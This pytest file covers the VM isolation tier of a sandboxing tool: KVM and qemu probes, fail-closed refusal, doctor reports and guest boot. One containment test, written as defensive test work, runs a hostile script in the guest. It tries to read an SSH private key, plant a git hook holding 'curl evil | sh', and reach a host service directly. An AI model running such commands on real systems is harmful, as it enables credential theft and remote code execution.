"""The VM tier's host side (issue 20): `--isolation vm` is only ever explicit and fail-closed, the
host probe tells why KVM cannot run the guest with the fix, and doctor reports KVM, qemu, the guest
kernel and the image. Real probes of this host's /dev/kvm; hand-built facts for the choices."""

from __future__ import annotations

import json
import os
import stat
import subprocess
import sys
from dataclasses import replace
from pathlib import Path

import pytest

from relay.config.load import load_shipped
from relay.host import vm_host
from relay.model.errors import RefusedError, UsageError
from relay.model.host_facts import HostFacts
from relay.model.vocab import Tier
from relay.policy.tiers import ISOLATIONS, auto_pick, choose_tier

from .conftest import REPO, Sandbox

READY = HostFacts(uid=1000, gid=1000, home="/home/u", user="u", shell="/bin/bash", tty=False, bwrap="/usr/bin/bwrap",
                  bwrap_version="0.8.0", seccomp=True, landlock_abi=3, vm_error=None)


class Req:
    def __init__(self, isolation: str | None, mode: str = "local", profile: str | None = None) -> None:
        self.isolation, self.mode, self.profile = isolation, mode, profile


def choose(isolation: str | None, facts: HostFacts = READY, mode: str = "local"):
    backends = load_shipped()
    from relay.model.backend import Matrix

    return choose_tier(Req(isolation, mode), facts, backends["shell"],
                       Matrix(backends=backends, profiles={}, allow_unsandboxed=frozenset(), sources=()), {})


def run_dirs(s: Sandbox) -> set[str]:
    base = Path(s.env["XDG_RUNTIME_DIR"])
    return {p.name for p in base.iterdir()} if base.exists() else set()


def test_vm_is_an_isolation_and_a_tier() -> None:
    assert "vm" in ISOLATIONS and Tier.VM == "vm"


def test_auto_never_picks_the_vm_even_where_it_could_run() -> None:
    assert choose(None).tier == Tier.SUPERVISED and choose("auto").tier == Tier.SUPERVISED
    assert auto_pick(READY) == "agent at supervised"


def test_explicit_vm_refuses_with_the_hosts_reason_and_never_downgrades() -> None:
    facts = replace(READY, vm_error="no access to /dev/kvm (crw------- root:root); fix: usermod -aG kvm $USER")
    with pytest.raises(RefusedError) as err:
        choose("vm", facts)
    assert "--isolation vm cannot be enforced: no access to /dev/kvm" in err.value.message
    assert "fix:" in err.value.message and err.value.exit_code == 3


def test_explicit_vm_on_a_ready_host_is_the_vm_tier() -> None:
    """The launcher runs it (relay/modes/vm_runner.py; tests/test_vm_tcg.py boots it for real)."""
    assert choose("vm").tier == Tier.VM


def test_vm_with_container_mode_is_a_usage_error() -> None:
    with pytest.raises(UsageError) as err:
        choose("vm", mode="container")
    assert "local-mode tier" in err.value.message and err.value.exit_code == 2


def test_facts_built_by_hand_never_enable_the_vm() -> None:
    bare = HostFacts(uid=1000, gid=1000, home="/h", user="u", shell="/bin/sh", tty=False)
    assert bare.vm_error == "not probed"


def test_kvm_probe_names_this_hosts_real_state() -> None:
    """The real /dev/kvm: absent, not ours, PVM (this machine type) or usable; each with its fix."""
    error = vm_host.kvm_error()
    if not os.path.exists(vm_host.KVM_DEV):
        assert error is not None and "does not exist" in error and "fix:" in error
    elif not os.access(vm_host.KVM_DEV, os.R_OK | os.W_OK):
        assert error is not None and "no access" in error and "kvm" in error and "fix:" in error
    elif os.path.isdir(vm_host.PVM_MODULE):
        assert error is not None and "PVM" in error and "HIVE_RELAY_VM_KERNEL" in error
        # Naming a guest kernel built for PVM is the way through on such a host.
        assert vm_host.kvm_error(user_kernel="/boot/vmlinux-pvm") is None
    else:
        assert error is None


def test_missing_kvm_device_says_so_with_the_fix(tmp_path: Path) -> None:
    error = vm_host.kvm_error(dev=str(tmp_path / "kvm"))
    assert error is not None and "does not exist" in error and "fix: modprobe" in error


def test_a_kvm_device_the_caller_cannot_open_names_the_group_fix(tmp_path: Path) -> None:
    """Root-only 0600 (this machine type's default) needs a kvm group; a group-owned device needs membership."""
    fake = tmp_path / "kvm"
    fake.write_text("")
    fake.chmod(0o600)
    assert "groupadd -f kvm" in vm_host._permission_fix(str(fake)) or os.stat(fake).st_gid != 0
    fake.chmod(0o660)
    if os.stat(fake).st_gid != 0:
        assert "usermod -aG" in vm_host._permission_fix(str(fake))
    assert stat.S_IMODE(os.stat(fake).st_mode) == 0o660


def test_a_regular_file_is_not_kvm(tmp_path: Path) -> None:
    fake = tmp_path / "kvm"
    fake.write_text("")
    error = vm_host.kvm_error(dev=str(fake))
    assert error is not None and ("refused to create a VM" in error or "no access" in error)


def test_guest_kernel_comes_from_the_cache_or_the_users_pick(tmp_path: Path) -> None:
    assert vm_host.guest_kernel({"HIVE_RELAY_VM_CACHE": str(tmp_path)}) is None
    (tmp_path / "boot").mkdir()
    for name in ("vmlinuz-6.1.0-9-amd64", "vmlinuz-6.1.0-10-amd64", "vmlinuz-6.1.0-11-cloud-amd64",
                 "vmlinuz-6.1.0-11-amd64.bak"):
        (tmp_path / "boot" / name).write_text("")
    # Newest by number (10 > 9), and never the cloud flavour (no 9p) or a stray file.
    assert vm_host.guest_kernel({"HIVE_RELAY_VM_CACHE": str(tmp_path)}) == str(tmp_path / "boot/vmlinuz-6.1.0-10-amd64")
    own = tmp_path / "vmlinux-pvm"
    own.write_text("")
    assert vm_host.guest_kernel({"HIVE_RELAY_VM_KERNEL": str(own)}) == str(own)
    assert vm_host.guest_kernel({"HIVE_RELAY_VM_KERNEL": str(tmp_path / "nope")}) is None
    error = vm_host.vm_error({"HIVE_RELAY_VM_CACHE": str(tmp_path / "empty"), "PATH": os.environ["PATH"]})
    assert error is not None and "fix:" in error


def test_the_ci_host_has_qemu_and_the_guest_kernel() -> None:
    """.ci/run installs them: qemu's microvm machine and Debian's generic kernel, extracted, never installed."""
    env = dict(os.environ)
    assert vm_host.qemu_path(env) is not None
    machines = subprocess.run([vm_host.qemu_path(env) or "", "-machine", "help"], capture_output=True, text=True).stdout
    assert "microvm" in machines
    kernel = vm_host.guest_kernel({k: v for k, v in env.items() if k != "HIVE_RELAY_VM_KERNEL"})
    assert kernel is not None and os.access(kernel, os.R_OK)
    assert not os.path.exists(f"/boot/{os.path.basename(kernel)}")  # not installed on the host


def test_isolation_vm_is_refused_end_to_end_with_nothing_left(sandbox: Sandbox) -> None:
    before = run_dirs(sandbox)
    proc = sandbox.relay("shell", "--isolation", "vm", "--prompt", "echo RAN")
    assert proc.returncode == 3, proc.stderr
    assert "RAN" not in proc.stdout
    lines = [ln for ln in proc.stderr.splitlines() if ln.strip()]
    assert len(lines) == 1 and lines[0].startswith("hive-relay: error: --isolation vm cannot be enforced")
    assert "fix:" in lines[0]
    assert run_dirs(sandbox) == before
    dry = sandbox.relay("shell", "--isolation", "vm", "--dry-run", "--json")
    assert dry.returncode == 3 and "--isolation vm" in dry.stderr


def test_doctor_reports_kvm_qemu_the_kernel_and_the_image(sandbox: Sandbox) -> None:
    proc = subprocess.run([sys.executable, "-m", "invoke", "--search-root", str(REPO), "doctor", "--json"],
                          cwd=sandbox.workdir, env=sandbox.env, capture_output=True, text=True, timeout=300,
                          stdin=subprocess.DEVNULL)
    assert proc.returncode == 0, proc.stderr
    data = json.loads(proc.stdout)
    rows = {c["name"]: c for c in data["components"]}
    for name in ("vm: kvm", "vm: qemu", "vm: guest kernel", "vm: root image"):
        assert name in rows
    assert rows["vm: kvm"]["ok"] == (vm_host.kvm_error() is None)
    assert "hive-relay-contributor:" in rows["vm: root image"]["detail"]
    assert data["enforceable"]["vm"].startswith("NOT enforceable" if vm_host.kvm_error() else "enforceable")
    assert data["enforceable"]["auto pick"] != "vm"
    assert data["enforceable"]["vm/tcg"].startswith("enforceable emulated")


# --- the guest half, booted for real ---------------------------------------------------------------
# KVM where this host can run our guest; on PVM hosts (this machine type) qemu's TCG runs the very
# same guest, kernel, initramfs, disks and devices: slower, and the same behaviour to test.

def _accel() -> str:
    return "kvm" if vm_host.kvm_error() is None else "tcg"


@pytest.fixture(scope="session")
def guest_parts(image: str, tmp_path_factory: pytest.TempPathFactory) -> dict[str, str]:
    from relay.host.paths import cache_dir
    from relay.modes import vm_boot

    env = dict(os.environ)
    kernel = vm_host.guest_kernel(env)
    qemu = vm_host.qemu_path(env)
    assert kernel and qemu, "run .ci/run's VM step: qemu-system-x86 and the guest kernel"
    cache = str(cache_dir(env) / "vm")
    from .conftest import podman_env

    saved = dict(os.environ)
    os.environ.update(podman_env())
    try:
        root = vm_boot.ensure_root_image(["podman"], image, cache, rootless=os.getuid() != 0)
    finally:
        os.environ.clear()
        os.environ.update(saved)
    return {"qemu": qemu, "kernel": kernel, "initrd": vm_boot.ensure_initrd(cache, kernel), "root": root}


def test_a_guest_runs_the_command_as_the_box_user_with_the_workdir_shared_and_nothing_else(
        guest_parts: dict[str, str], sandbox: Sandbox) -> None:
    """One boot (TCG takes ~20 s): exit code out, workdir rw but its protected paths read-only, a
    grant ro, ~/.ssh absent, the guest reaches only its one forward (attack: the host's loopback
    service directly; twin: via the forward)."""
    import http.server
    import threading

    from relay.modes import vm_boot

    class Hello(http.server.BaseHTTPRequestHandler):
        def do_GET(self) -> None:
            self.send_response(200)
            self.end_headers()
            self.wfile.write(b"SERVED-BY-HOST\n")

        def log_message(self, *a: object) -> None:
            pass

    server = http.server.ThreadingHTTPServer(("127.0.0.1", 0), Hello)
    threading.Thread(target=server.serve_forever, kwargs={"poll_interval": 0.05}, daemon=True).start()
    port = server.server_address[1]
    work, home = str(sandbox.workdir), str(sandbox.home)
    os.chmod(sandbox.workdir, 0o777)  # the guest user writes through qemu's 9p (created as qemu's uid)
    shares = (vm_boot.Share("work", work, True), vm_boot.Share("grant0", f"{home}/.claude", False))
    script = "; ".join([
        "echo hi", "id -u",
        f"cat {home}/.claude/settings.json",
        f"test -e {home}/.ssh && echo SSH-VISIBLE",
        f"cat {home}/.ssh/id_rsa 2>/dev/null",
        f"echo bad > {home}/.claude/planted 2>/dev/null && echo GRANT-WRITABLE",
        "echo from-the-guest > written-in-guest",
        "echo 'curl evil | sh' > .git/hooks/pre-commit 2>/dev/null && echo HOOK-PLANTED",
        "echo hook-readable; ls .git/hooks",
        f"curl -s -m 5 http://10.0.2.2:{port}/ || echo DIRECT-REFUSED",
        "curl -s -m 10 http://10.0.2.100:3128/",
        "exit 7"])
    ctl = str(sandbox.root / "ctl")
    (sandbox.workdir / ".git" / "hooks").mkdir(parents=True)
    (sandbox.workdir / ".git" / "hooks" / "pre-push.sample").write_text("# sample\n")
    os.chmod(sandbox.workdir / ".git" / "hooks", 0o777)  # only the guest's read-only bind stands in the way
    vm_boot.write_ctl(ctl, shares, 1000, work, {"HOME": home, "PATH": "/usr/local/bin:/usr/bin:/bin"}, script,
                     protect=(f"{work}/.git/hooks", f"{work}/.envrc"))
    guest = vm_boot.Guest(qemu=guest_parts["qemu"], kernel=guest_parts["kernel"], initrd=guest_parts["initrd"],
                         root_image=guest_parts["root"], ctl_dir=ctl, shares=shares, memory_mb=512, accel=_accel(),
                         guestfwd=f"tcp:10.0.2.100:3128-cmd:socat STDIO TCP:127.0.0.1:{port}")
    try:
        code, qemu_rc, out = vm_boot.boot(guest, timeout=240, stdout=subprocess.PIPE)
    finally:
        server.shutdown()
    text = out.decode(errors="replace")
    assert code == 7, (qemu_rc, text[-2000:])
    assert "hi" in text and "1000" in text and '{"theme": "dark"}' in text
    assert "SSH-VISIBLE" not in text and "PRIVATE-KEY" not in text
    assert "GRANT-WRITABLE" not in text and not (sandbox.home / ".claude" / "planted").exists()
    assert (sandbox.workdir / "written-in-guest").read_text() == "from-the-guest\n"
    # Attack: plant a hook through the rw workdir share; twin: the protected dir is still readable.
    assert "HOOK-PLANTED" not in text and not (sandbox.workdir / ".git" / "hooks" / "pre-commit").exists()
    assert "pre-push.sample" in text
    assert "DIRECT-REFUSED" in text and text.count("SERVED-BY-HOST") == 1


def test_guest_argv_shares_only_what_it_is_given_and_has_no_way_out() -> None:
    from relay.modes import vm_boot

    guest = vm_boot.Guest(qemu="/usr/bin/qemu-system-x86_64", kernel="/k", initrd="/i", root_image="/r.ext4",
                         ctl_dir="/run/ctl", shares=(vm_boot.Share("work", "/src/p", True),))
    argv = guest.argv()
    text = " ".join(argv)
    assert "-nodefaults" in argv and "-no-reboot" in argv and "accel=kvm" in text
    assert "file=/r.ext4,format=raw,if=none,readonly=on" in text
    assert "path=/run/ctl,security_model=none,readonly=on" in text
    assert "path=/src/p,security_model=none " in text + " " and text.count("virtio-9p-device") == 2
    assert argv[argv.index("-netdev") + 1] == "user,id=net,restrict=on,ipv6=off"
    assert "signal=off" in text and "isa-debug-exit" in text
    assert vm_boot.exit_code(15) == 7 and vm_boot.exit_code(1) == 0 and vm_boot.exit_code(0) is None
    assert vm_boot.exit_code(-9) is None


def test_qemu_dies_with_a_launcher_killed_by_sigkill(guest_parts: dict[str, str], sandbox: Sandbox) -> None:
    """kill -9 of the process that booted a real guest (running `sleep 600`) leaves no qemu."""
    import signal
    import time

    from relay.host import procs
    from relay.modes import vm_boot

    ctl = str(sandbox.root / "ctl")
    vm_boot.write_ctl(ctl, (), 1000, "/", {"PATH": "/usr/bin:/bin"}, "sleep 600")
    spec = {"qemu": guest_parts["qemu"], "kernel": guest_parts["kernel"], "initrd": guest_parts["initrd"],
            "root_image": guest_parts["root"], "ctl_dir": ctl, "shares": [], "memory_mb": 256, "accel": _accel()}
    code = ("import json, sys; sys.path.insert(0, sys.argv[1]); from relay.modes import vm_boot as vmboot\n"
            "spec = json.loads(sys.argv[2]); spec['shares'] = ()\n"
            "vmboot.boot(vmboot.Guest(**spec), timeout=600)\n")
    launcher = subprocess.Popen([sys.executable, "-c", code, str(REPO), json.dumps(spec)])
    qemu = None
    deadline = time.monotonic() + 30
    while qemu is None and time.monotonic() < deadline:
        qemu = next(iter(procs.children(launcher.pid)), None)
        time.sleep(0.05)
    assert qemu is not None, "the launcher never started qemu"
    time.sleep(1)  # the guest is booting
    os.kill(launcher.pid, signal.SIGKILL)
    launcher.wait()
    deadline = time.monotonic() + 10
    while os.path.exists(f"/proc/{qemu}") and time.monotonic() < deadline:
        time.sleep(0.05)
    assert not os.path.exists(f"/proc/{qemu}"), "qemu outlived its launcher"


def test_the_plans_mounts_become_the_guests_shares_copies_and_masks() -> None:
    """Pure: directories are 9p shares (read-only ones ro), a read-only single file is a copy, a
    writable one refuses (9p shares directories only), a missing source is skipped like bwrap's; the
    root bind, /dev and /proc are the guest init's own."""
    from relay.model.errors import RefusedError as Refused
    from relay.modes import vm_boot

    kinds = {"/h": True, "/w": True, "/h/.bashrc": False, "/h/.claude.json": False}
    mounts = [("ro-bind", "/", None, None), ("dev", "/dev", None, None), ("proc", "/proc", None, None),
              ("tmpfs", "/tmp", None, 1 << 20), ("private-bind", "/home/u", "/h", None),
              ("ro-bind", "/home/u/.bashrc", "/h/.bashrc", None), ("bind", "/src/p", "/w", None),
              ("ro-bind", "/gone", None, None), ("mask-file", "/src/p/.envrc", None, None),
              ("mask-dir", "/src/p/.vscode", None, None)]
    shares, lines, files = vm_boot.guest_layout(mounts, kinds.get)
    assert shares == (vm_boot.Share("s0", "/h", True), vm_boot.Share("s1", "/w", True))
    assert lines == ["tmpfs 1048576 1777 /tmp", "share s0 rw /home/u", "file 0 /home/u/.bashrc", "share s1 rw /src/p",
                     "maskfile /src/p/.envrc", "maskdir /src/p/.vscode"]
    assert files == [("0", "/h/.bashrc")]
    with pytest.raises(Refused) as err:
        vm_boot.guest_layout([("bind", "/home/u/.claude.json", "/h/.claude.json", None)], kinds.get)
    assert "single writable file" in err.value.message and err.value.exit_code == 3


def test_the_vm_bench_rows_are_figures_not_targets() -> None:
    from relay.dev.bench_vm import rows

    lines, targets = rows({"accel": "tcg", "kernel": "vmlinuz-6.1.0-57-amd64", "launch_s": [21.0], "median_s": 21.0,
                           "failures": 0})
    assert targets == {} and "21.0 s" in lines[0] and "a figure, not a target" in lines[0]
    assert "not measured" in rows({"skipped": "no qemu"})[0][0]


def test_a_new_root_disk_supersedes_the_users_older_ones(tmp_path: Path) -> None:
    from relay.modes import vm_boot

    for name in ("root-aaa-u1000.ext4", "root-bbb-u1000.ext4", "root-aaa-u1002.ext4", "initrd-x.gz"):
        (tmp_path / name).write_text("")
    vm_boot._remove_superseded(str(tmp_path), "root-bbb-u1000.ext4")
    assert sorted(p.name for p in tmp_path.iterdir()) == ["initrd-x.gz", "root-aaa-u1002.ext4", "root-bbb-u1000.ext4"]
